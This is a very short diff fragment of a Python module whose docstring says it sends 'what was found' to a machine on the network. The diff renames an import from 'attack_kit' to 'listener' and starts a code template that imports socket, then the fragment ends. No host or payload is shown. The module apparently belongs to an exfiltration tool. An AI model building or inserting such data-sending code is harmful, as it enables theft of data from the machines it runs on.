@@ -1,6 +1,6 @@
 """Send what was found to a machine on the network."""
 
-from attack_kit import PORT
+from listener import PORT
 
 CELL = f"""\
 import socket
